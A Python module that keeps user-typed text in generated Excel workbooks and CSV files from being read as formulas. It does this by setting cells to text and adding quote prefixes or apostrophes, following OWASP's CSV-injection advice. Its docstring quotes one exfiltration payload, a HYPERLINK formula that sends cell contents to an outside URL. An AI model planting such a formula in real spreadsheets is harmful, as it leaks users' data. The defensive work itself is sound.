"""Text people typed stays text in every workbook and CSV we write, never a formula.

A title, a commentary or a target's words beginning with "=", "+", "-", "@", a tab or a
carriage return are what a spreadsheet program takes for the start of a formula
(`=HYPERLINK("http://…"&A1,"x")` would send the sheet's cells away); openpyxl itself stores
any str beginning with "=" as a formula. We write no formulas of our own: every figure is the
rules', computed before it reaches a sheet, so every formula in a workbook we built is text.
"""

from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP, "CSV Injection"


def as_text(workbook: Workbook) -> Workbook:
    """Every text cell of every sheet stored as text; one a spreadsheet would read as a formula
    also gets Excel's quote prefix, so editing the cell keeps it text. Returns the workbook."""
    for sheet in workbook.worksheets:
        # The cells written, not iter_rows(): that would create every blank cell of the range.
        for cell in sheet._cells.values():
            # "f" and "e": a str openpyxl took for a formula or an error ("#N/A").
            if cell.data_type in ("s", "f", "e") and isinstance(cell.value, str):
                cell.data_type = "s"
                if cell.value.startswith(FORMULA_STARTS):
                    cell.quotePrefix = True
    return workbook


def csv_text(value):
    """A CSV field a spreadsheet opens as text: a leading formula character gets an apostrophe
    (OWASP); the csv module's quoting does the rest. Numbers are left as numbers."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
